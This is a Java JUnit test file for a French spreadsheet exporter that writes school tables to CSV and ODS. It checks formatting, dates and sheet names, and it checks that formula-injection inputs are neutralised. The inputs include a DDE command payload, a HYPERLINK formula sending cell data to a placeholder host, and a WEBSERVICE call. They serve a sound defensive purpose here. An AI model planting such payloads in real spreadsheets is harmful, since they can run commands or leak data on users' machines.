package fr.gisement.spreadsheet;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.gisement.spreadsheet.Table.Column;
import fr.gisement.spreadsheet.Table.Kind;
import java.io.ByteArrayInputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.TimeZone;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SpreadsheetsTests {

    private static final LocalDate DAY = LocalDate.of(2026, 12, 31);
    private static final List<String> ACTIVE = List.of(
            "=1+1",
            "+33 6 12 34 56 78",
            "-5 élèves",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://exemple.fr/?\"&A1)",
            "of:=1+1",
            "  =1+1",
            "\"=1+1",
            "'=1+1",
            "=WEBSERVICE(\"http://exemple.fr\")",
            "deux\nlignes",
            "a;b");

    private static final Table SCHOOLS = new Table(
            "Écoles",
            "Écoles au 31 décembre 2026",
            List.of(
                    new Column("École", Kind.TEXT),
                    new Column("Personnels", Kind.NUMBER),
                    new Column("Heures", Kind.NUMBER),
                    new Column("Ouverte le", Kind.DATE),
                    new Column("Familles reliées", Kind.PERCENT)),
            List.of(
                    List.of(
                            Cell.of("Élémentaire Noël-Hérédia"),
                            Cell.of(1127),
                            Cell.of(3.5),
                            Cell.of(DAY),
                            Cell.percent(0.375)),
                    List.of(Cell.of("Œuvre & « Ça »"), Cell.of(-12), Cell.of(18), Cell.missing(), Cell.missing())),
            List.of("Personnels : qui ont une appartenance en cours."));

    @Test
    void aCsvIsWrittenAsFrenchSpreadsheetsReadIt() {
        assertThat(new String(Spreadsheets.csv(SCHOOLS), UTF_8)).isEqualTo("""
                        \uFEFF"École";"Personnels";"Heures";"Ouverte le";"Familles reliées"
                        "Élémentaire Noël-Hérédia";1127;3,5;31/12/2026;37,5%
                        "Œuvre & « Ça »";-12;18;"–";"–"
                        ""
                        "Écoles au 31 décembre 2026"
                        "Personnels : qui ont une appartenance en cours."
                        """.replace("\n", "\r\n"));
    }

    @Test
    void inACsvWhatBeginsLikeAFormulaHasAnApostropheAndNumbersHaveNone() {
        String[] lines = new String(Spreadsheets.csv(active()), UTF_8).split("\r\n", -1);
        assertThat(lines)
                .contains("\"'=1+1\";-1", "\"'+33 6 12 34 56 78\";-1", "\"'@SUM(A1:A2)\";-1", "\"'\t=1+1\";-1")
                .contains("\"'  =1+1\";-1", "\"'\r=1+1\";-1", "\"a;b\";-1");
    }

    @Test
    void anOdsHoldsTypedValuesAndNoFormula() throws Exception {
        List<List<SheetReader.Value>> rows = SheetReader.read(content(Spreadsheets.ods(SCHOOLS)), "Écoles");

        assertThat(rows.get(1))
                .containsExactly(
                        new SheetReader.Value("string", "", "Élémentaire Noël-Hérédia"),
                        new SheetReader.Value("float", "1127", "1127"),
                        new SheetReader.Value("float", "3.5", "3,5"),
                        new SheetReader.Value("date", "2026-12-31", "31/12/2026"),
                        new SheetReader.Value("percentage", "0.375", "37,5%"));
        assertThat(rows.get(2))
                .extracting(SheetReader.Value::text)
                .containsExactly("Œuvre & « Ça »", "-12", "18", "–", "–");
        String content = content(Spreadsheets.ods(active()));
        assertThat(content).doesNotContain("table:formula");
        assertThat(SheetReader.read(content, "Essai"))
                .filteredOn(row -> row.size() > 1)
                .allSatisfy(row -> assertThat(row.getFirst().type()).isEqualTo("string"));
    }

    @Test
    void libreOfficeOpensTheOdsAsItWasMeant(@TempDir Path folder) throws Exception {
        List<List<SheetReader.Value>> rows =
                SheetReader.read(LibreOffice.open(folder, "ecoles.ods", Spreadsheets.ods(SCHOOLS)), "Écoles");

        assertThat(rows.get(0)).extracting(SheetReader.Value::text).contains("École", "Familles reliées");
        assertThat(rows.get(1))
                .containsExactly(
                        new SheetReader.Value("string", "", "Élémentaire Noël-Hérédia"),
                        new SheetReader.Value("float", "1127", "1 127"),
                        new SheetReader.Value("float", "3.5", "3,5"),
                        new SheetReader.Value("date", "2026-12-31", "31/12/2026"),
                        new SheetReader.Value("percentage", "0.375", "37,5 %"));
        assertThat(rows.get(2).get(0).text()).isEqualTo("Œuvre & « Ça »");
        assertThat(rows.get(2).get(1).value()).isEqualTo("-12");
    }

    @Test
    void libreOfficeRunsNoneOfTheOdsTexts(@TempDir Path folder) throws Exception {
        String opened = LibreOffice.open(folder, "essai.ods", Spreadsheets.ods(active()));

        assertThat(opened).doesNotContain("table:formula");

        assertThat(SheetReader.read(opened, "Essai"))
                .extracting(row -> row.getFirst().text())
                .containsSubsequence(ACTIVE.stream()
                        .map(text -> text.replace('\r', '\n').replace('\t', ' '))
                        .toList());
    }

    @Test
    void libreOfficeOpensTheCsvAsItWasMeant(@TempDir Path folder) throws Exception {
        List<List<SheetReader.Value>> rows =
                SheetReader.read(LibreOffice.open(folder, "ecoles.csv", Spreadsheets.csv(SCHOOLS)), "ecoles");

        assertThat(rows.get(0).get(0).text()).isEqualTo("École");
        assertThat(rows.get(1))
                .extracting(SheetReader.Value::type)
                .containsExactly("string", "float", "float", "date", "percentage");
        assertThat(rows.get(1))
                .extracting(SheetReader.Value::value)
                .containsExactly("", "1127", "3.5", "2026-12-31", "0.375");
        assertThat(rows.get(2).get(1).value()).isEqualTo("-12");

        String opened = LibreOffice.open(folder, "essai.csv", Spreadsheets.csv(active()));
        assertThat(opened).doesNotContain("table:formula");
        assertThat(SheetReader.read(opened, "essai"))
                .filteredOn(row -> row.size() > 1 && row.get(1).value().equals("-1"))
                .hasSize(ACTIVE.size())
                .allSatisfy(row -> assertThat(row.getFirst().type()).isEqualTo("string"));
    }

    @Test
    void aDayIsThatDayWhereverTheMachineThinksItStands() throws Exception {
        TimeZone before = TimeZone.getDefault();
        try {
            for (String zone : List.of("Pacific/Auckland", "Europe/Paris", "America/Los_Angeles")) {
                TimeZone.setDefault(TimeZone.getTimeZone(zone));
                assertThat(content(Spreadsheets.ods(SCHOOLS))).contains("office:date-value=\"2026-12-31\"");
            }
        } finally {
            TimeZone.setDefault(before);
        }
    }

    @Test
    void aSheetsNameIsOneThatSpreadsheetsTake() throws Exception {
        Table odd = new Table(
                "'[Lyon] 3 : <a>/\"b\"&c?*' et un nom beaucoup trop long", "<&>", List.of(), List.of(), List.of());
        String content = content(Spreadsheets.ods(List.of(odd, odd)));

        assertThat(SheetReader.read(content, "Lyon 3 <a> \"b\"&c ' et un nom be"))
                .isEmpty();
        assertThat(SheetReader.read(content, "Lyon 3 <a> \"b\"&c ' et un no 2")).isEmpty();
        assertThat(SheetReader.read(content, "Notes").getFirst().getFirst().text())
                .isEqualTo("<&>");
    }

    @Test
    void aCellOfAnotherKindThanItsColumnIsRefused() {
        List<Column> columns = List.of(new Column("A", Kind.NUMBER));
        assertThatThrownBy(() -> new Table("A", "", columns, List.of(List.of(Cell.of("1"))), List.of()))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new Table("A", "", columns, List.of(List.of()), List.of()))
                .isInstanceOf(IllegalArgumentException.class);
    }

    private static Table active() {
        List<List<Cell>> rows = new ArrayList<>();
        ACTIVE.forEach(text -> rows.add(List.of(Cell.of(text), Cell.of(-1))));
        return new Table(
                "Essai",
                "=1+1",
                List.of(new Column("=1+1", Kind.TEXT), new Column("@b", Kind.NUMBER)),
                rows,
                List.of("+1\u0000\u0001"));
    }

    private static String content(byte[] ods) throws Exception {
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(ods))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().equals("content.xml")) {
                    return new String(zip.readAllBytes(), UTF_8);
                }
            }
        }
        throw new AssertionError("no content");
    }

    /** Files to look at, when asked for: {@code -Dgisement.pictures=folder}. */
    @Test
    void filesToLookAtAreKeptWhenAskedFor() throws Exception {
        String folder = System.getProperty("gisement.pictures");
        if (folder != null) {
            Files.write(Path.of(folder, "ecoles.ods"), Spreadsheets.ods(List.of(SCHOOLS, active())));
            Files.write(Path.of(folder, "ecoles.csv"), Spreadsheets.csv(SCHOOLS));
        }
    }
}
